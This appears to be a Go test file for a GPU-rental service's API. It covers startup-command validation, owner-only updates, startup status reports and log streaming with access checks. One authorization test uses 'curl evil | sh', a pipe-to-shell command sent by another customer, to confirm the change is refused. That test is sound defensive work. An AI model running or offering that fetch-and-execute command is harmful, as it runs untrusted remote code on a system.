package api

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gpurent/gpurent"
	"github.com/gpurent/gpurent/internal/agentproto"
	"github.com/gpurent/gpurent/internal/apiv1"
)

func strp(s string) *string { return &s }

// TestStartupCommandAPI: the rent's startup_command (absent: the image's
// own, shown as null; "": none; a line), its bounds, and PUT
// /instances/{id}/startup, which only the owner may use and which says
// the change applies at the next start.
func TestStartupCommandAPI(t *testing.T) {
	e := newEnv(t)
	e.host("gpu-a", 4)
	u, other := e.customer(), e.customer()
	rent := func(body any) *httptest.ResponseRecorder {
		return e.do(req{method: "POST", path: "/api/v1/instances", token: u.token, body: body})
	}
	def := decode[apiv1.Instance](t, rent(apiv1.CreateInstanceRequest{GPUType: testGPUType, GPUCount: 1, Image: "ubuntu:24.04"}), 201)
	if def.StartupCommand != nil {
		t.Errorf("image default shown as %q, want null", *def.StartupCommand)
	}
	raw := rent(apiv1.CreateInstanceRequest{GPUType: testGPUType, GPUCount: 1, Image: "ubuntu:24.04"}).Body.String()
	if !strings.Contains(raw, `"startup_command":null`) {
		t.Errorf("the image default is not said as null: %s", raw)
	}
	none := decode[apiv1.Instance](t, rent(apiv1.CreateInstanceRequest{GPUType: testGPUType, GPUCount: 1, Image: "ubuntu:24.04",
		StartupCommand: strp("")}), 201)
	if none.StartupCommand == nil || *none.StartupCommand != "" {
		t.Errorf("none shown as %v", none.StartupCommand)
	}
	line := decode[apiv1.Instance](t, rent(`{"gpu_type":"`+testGPUType+`","gpu_count":1,"image":"ubuntu:24.04","startup_command":"jupyter lab --ip 0.0.0.0"}`), 201)
	if line.StartupCommand == nil || *line.StartupCommand != "jupyter lab --ip 0.0.0.0" {
		t.Errorf("line shown as %v", line.StartupCommand)
	}
	got := decode[apiv1.Instance](t, e.do(req{method: "GET", path: "/api/v1/instances/" + line.ID, token: u.token}), 200)
	if got.StartupCommand == nil || *got.StartupCommand != "jupyter lab --ip 0.0.0.0" {
		t.Errorf("GET shows %v", got.StartupCommand)
	}
	// Bad input at rent: too long, NUL, the wrong type.
	p := problem(t, rent(apiv1.CreateInstanceRequest{GPUType: testGPUType, GPUCount: 1, Image: "ubuntu:24.04",
		StartupCommand: strp(strings.Repeat("a", gpurent.MaxStartupCommandBytes+1))}), 400, gpurent.CodeInvalid)
	if !strings.Contains(p.Detail, "4096") {
		t.Errorf("too long: %q", p.Detail)
	}
	p = problem(t, rent(`{"gpu_type":"`+testGPUType+`","gpu_count":1,"image":"x","startup_command":"echo \u0000 hi"}`), 400, gpurent.CodeInvalid)
	if !strings.Contains(p.Detail, "NUL") {
		t.Errorf("NUL: %q", p.Detail)
	}
	problem(t, rent(`{"gpu_type":"`+testGPUType+`","gpu_count":1,"image":"x","startup_command":["sh"]}`), 400, gpurent.CodeInvalid)

	put := func(tok, id string, body any) *httptest.ResponseRecorder {
		return e.do(req{method: "PUT", path: "/api/v1/instances/" + id + "/startup", token: tok, body: body})
	}
	res := decode[apiv1.SetStartupResult](t, put(u.token, def.ID, apiv1.SetStartupRequest{StartupCommand: strp("sleep infinity")}), 200)
	if res.StartupCommand == nil || *res.StartupCommand != "sleep infinity" || res.Applies != "next_start" ||
		!strings.Contains(res.Message, "next start") {
		t.Errorf("set: %+v", res)
	}
	res = decode[apiv1.SetStartupResult](t, put(u.token, def.ID, apiv1.SetStartupRequest{ImageDefault: true}), 200)
	if res.StartupCommand != nil || !strings.Contains(res.Message, "image's own") {
		t.Errorf("image default: %v %q", res.StartupCommand, res.Message)
	}
	problem(t, put(u.token, def.ID, `{}`), 400, gpurent.CodeInvalid)
	problem(t, put(u.token, def.ID, `{"startup_command":"x","image_default":true}`), 400, gpurent.CodeInvalid)
	problem(t, put(u.token, def.ID, `{"startup_command":"a\u0000b"}`), 400, gpurent.CodeInvalid)
	problem(t, put(u.token, def.ID, apiv1.SetStartupRequest{StartupCommand: strp(strings.Repeat("a", 5000))}), 400, gpurent.CodeInvalid)
	problem(t, put(u.token, def.ID, `{"command":"x"}`), 400, gpurent.CodeInvalid)
	// Another customer's instance is not found, and unchanged.
	problem(t, put(other.token, line.ID, apiv1.SetStartupRequest{StartupCommand: strp("curl evil | sh")}), 404, gpurent.CodeNotFound)
	problem(t, put(other.token, "ins-nope", apiv1.SetStartupRequest{StartupCommand: strp("x")}), 404, gpurent.CodeNotFound)
	got = decode[apiv1.Instance](t, e.do(req{method: "GET", path: "/api/v1/instances/" + line.ID, token: u.token}), 200)
	if *got.StartupCommand != "jupyter lab --ip 0.0.0.0" {
		t.Errorf("another customer changed it to %q", *got.StartupCommand)
	}
}

// TestStartupStatusInAPI: the agent's report of the startup command is
// shown on the instance, with a summary, and its exit is one event.
func TestStartupStatusInAPI(t *testing.T) {
	e := newEnv(t)
	h := e.host("gpu-a", 2)
	u := e.customer()
	in := e.rent(u, 1)
	e.converge(h)
	d := decode[agentproto.Desired](t, e.do(req{method: "GET", path: agentproto.PathDesired + "?after=0", token: h.token}), http.StatusOK)
	var alloc string
	for _, di := range d.Instances {
		if di.InstanceID == in.ID {
			alloc = di.AllocationID
		}
	}
	started := time.Now().UTC().Add(-time.Minute).Truncate(time.Second)
	exited := started.Add(30 * time.Second)
	code := 1
	rep := agentproto.Report{ReportID: gpurent.NewID("rep"), At: time.Now().UTC(), Runtime: "docker",
		Instances: []agentproto.ActualInstance{{InstanceID: in.ID, AllocationID: alloc, State: agentproto.StateRunning, StartedAt: started,
			Startup: &agentproto.StartupStatus{State: "exited", Command: []string{"/bin/sh", "-c", "exit 1"}, StartedAt: &started,
				ExitedAt: &exited, ExitCode: &code}}}}
	for range 2 {
		rep.ReportID = gpurent.NewID("rep")
		decode[agentproto.ReportResponse](t, e.do(req{method: "POST", path: agentproto.PathReport, token: h.token, body: rep}), 200)
	}
	got := decode[apiv1.Instance](t, e.do(req{method: "GET", path: "/api/v1/instances/" + in.ID, token: u.token}), 200)
	if got.State != "running" || got.Startup == nil || got.Startup.State != "exited" || got.Startup.ExitCode == nil ||
		*got.Startup.ExitCode != 1 || got.Startup.ExitedAt == nil || !got.Startup.ExitedAt.Equal(exited) ||
		!strings.Contains(got.Startup.Summary, "exited 1 at") || !strings.Contains(got.Startup.Summary, "keeps running") {
		t.Fatalf("startup status %s %+v", got.State, got.Startup)
	}
	n := 0
	for _, ev := range got.Events {
		if ev.Kind == "startup_exited" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d exit events, want 1: %+v", n, got.Events)
	}
}

// fakeLogs is an InstanceLogs that answers a pipe the test writes to.
type fakeLogs struct {
	mu     sync.Mutex
	asked  []agentproto.LogsRequest
	owners []string
	out    func() io.ReadCloser
	err    error
}

func (f *fakeLogs) Logs(_ context.Context, accountID, instanceID string, r agentproto.LogsRequest) (io.ReadCloser, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.asked = append(f.asked, r)
	f.owners = append(f.owners, accountID+"/"+instanceID)
	if f.err != nil {
		return nil, f.err
	}
	return f.out(), nil
}

// TestLogsRoute: GET /instances/{id}/logs streams text as it comes, with
// follow, since (a time or a duration) and tail passed on; bad input, a
// stopped instance, another customer's (and an operator's) are refused
// before the agent is asked.
func TestLogsRoute(t *testing.T) {
	logs := &fakeLogs{}
	e := newEnvWith(t, envOpts{logs: logs})
	h := e.host("gpu-a", 2)
	u, other, op := e.customer(), e.customer(), e.operator()
	in := e.rent(u, 1)
	path := "/api/v1/instances/" + in.ID + "/logs"
	// Not running yet: a clear conflict.
	p := problem(t, e.do(req{method: "GET", path: path, token: u.token}), 409, gpurent.CodeConflict)
	if !strings.Contains(p.Detail, "gpurent start") {
		t.Errorf("not running: %q", p.Detail)
	}
	e.converge(h)

	logs.out = func() io.ReadCloser { return io.NopCloser(strings.NewReader("hello\nworld\n")) }
	w := e.do(req{method: "GET", path: path + "?tail=5&since=2026-12-02T03:04:05Z", token: u.token})
	if w.Code != 200 || w.Body.String() != "hello\nworld\n" || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/plain") ||
		w.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Fatalf("logs: %d %q %v", w.Code, w.Body.String(), w.Header())
	}
	before := time.Now()
	e.do(req{method: "GET", path: path + "?follow=true&since=10m", token: u.token})
	logs.mu.Lock()
	if len(logs.asked) != 2 || logs.asked[0].Tail != 5 || logs.asked[0].Follow ||
		!logs.asked[0].Since.Equal(time.Date(2026, 12, 2, 3, 4, 5, 0, time.UTC)) || !logs.asked[1].Follow ||
		logs.asked[1].Since.After(before.Add(-10*time.Minute+time.Second)) || logs.asked[1].Since.Before(before.Add(-11*time.Minute)) ||
		logs.owners[0] != u.acc.ID+"/"+in.ID {
		t.Errorf("asked %+v as %v", logs.asked, logs.owners)
	}
	n := len(logs.asked)
	logs.mu.Unlock()

	for _, q := range []string{"?tail=-1", "?tail=x", "?tail=100001", "?since=yesterday", "?since=-5m", "?follow=maybe"} {
		problem(t, e.do(req{method: "GET", path: path + q, token: u.token}), 400, gpurent.CodeInvalid)
	}
	problem(t, e.do(req{method: "GET", path: path, token: other.token}), 404, gpurent.CodeNotFound)
	problem(t, e.do(req{method: "GET", path: path, token: op.token}), 404, gpurent.CodeNotFound)
	problem(t, e.do(req{method: "GET", path: "/api/v1/instances/ins-nope/logs", token: u.token}), 404, gpurent.CodeNotFound)
	problem(t, e.do(req{method: "GET", path: path}), 401, gpurent.CodeUnauthorized)
	logs.mu.Lock()
	if len(logs.asked) != n {
		t.Errorf("refused requests reached the agent: %+v", logs.asked[n:])
	}
	logs.mu.Unlock()

	// The gateway's refusal is the answer's.
	logs.err = gpurent.Errorf(gpurent.CodeUnavailable, "the host of instance %s is unreachable", in.ID)
	problem(t, e.do(req{method: "GET", path: path, token: u.token}), 503, gpurent.CodeUnavailable)
	logs.err = nil

	// An error after the stream began ends the text with a line.
	logs.out = func() io.ReadCloser {
		return io.NopCloser(io.MultiReader(strings.NewReader("partial\n"), errReader{gpurent.Errorf(gpurent.CodeUnavailable, "agent gone")}))
	}
	w = e.do(req{method: "GET", path: path, token: u.token})
	if w.Code != 200 || !strings.HasPrefix(w.Body.String(), "partial\n") || !strings.Contains(w.Body.String(), "[gpurent] the logs stream ended: agent gone") {
		t.Errorf("mid-stream error: %d %q", w.Code, w.Body.String())
	}
}

type errReader struct{ err error }

func (r errReader) Read([]byte) (int, error) { return 0, r.err }

// TestLogsStreamFlushes: over a real HTTP server, followed output reaches
// the client as it is written (each chunk flushed), and the stream ends
// when the client goes (the agent's reader is closed).
func TestLogsStreamFlushes(t *testing.T) {
	pr, pw := io.Pipe()
	closed := make(chan struct{})
	logs := &fakeLogs{out: func() io.ReadCloser { return &notifyCloser{Reader: pr, closed: closed} }}
	e := newEnvWith(t, envOpts{logs: logs})
	h := e.host("gpu-a", 2)
	u := e.customer()
	in := e.rent(u, 1)
	e.converge(h)
	srv := httptest.NewServer(e.h)
	defer srv.Close()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	r, _ := http.NewRequestWithContext(ctx, "GET", srv.URL+"/api/v1/instances/"+in.ID+"/logs?follow=true", nil)
	r.Header.Set("Authorization", "Bearer "+u.token)
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	buf := make([]byte, 64)
	for _, chunk := range []string{"step 1\n", "step 2\n"} {
		go func() { _, _ = pw.Write([]byte(chunk)) }()
		n, err := io.ReadAtLeast(resp.Body, buf, len(chunk))
		if err != nil || string(buf[:n]) != chunk {
			t.Fatalf("chunk %q arrived as %q %v", chunk, buf[:n], err)
		}
	}
	resp.Body.Close()
	cancel()
	go func() {
		for {
			if _, err := pw.Write([]byte("more\n")); err != nil {
				return
			}
		}
	}()
	select {
	case <-closed:
	case <-time.After(time.Minute):
		t.Fatal("the agent's stream was not closed after the client went")
	}
	pw.CloseWithError(io.ErrClosedPipe)
}

type notifyCloser struct {
	io.Reader
	once   sync.Once
	closed chan struct{}
}

func (n *notifyCloser) Close() error {
	n.once.Do(func() { close(n.closed) })
	return nil
}

// TestLogsWithoutGateway: without a gateway the owner is told why; anyone
// else still gets not found (the answer says nothing of the instance).
func TestLogsWithoutGateway(t *testing.T) {
	e := newEnv(t)
	h := e.host("gpu-a", 2)
	u, other := e.customer(), e.customer()
	in := e.rent(u, 1)
	e.converge(h)
	path := "/api/v1/instances/" + in.ID + "/logs"
	p := problem(t, e.do(req{method: "GET", path: path, token: u.token}), 503, gpurent.CodeUnavailable)
	if !strings.Contains(p.Detail, "SSH gateway") {
		t.Errorf("no gateway: %q", p.Detail)
	}
	problem(t, e.do(req{method: "GET", path: path, token: other.token}), 404, gpurent.CodeNotFound)
}
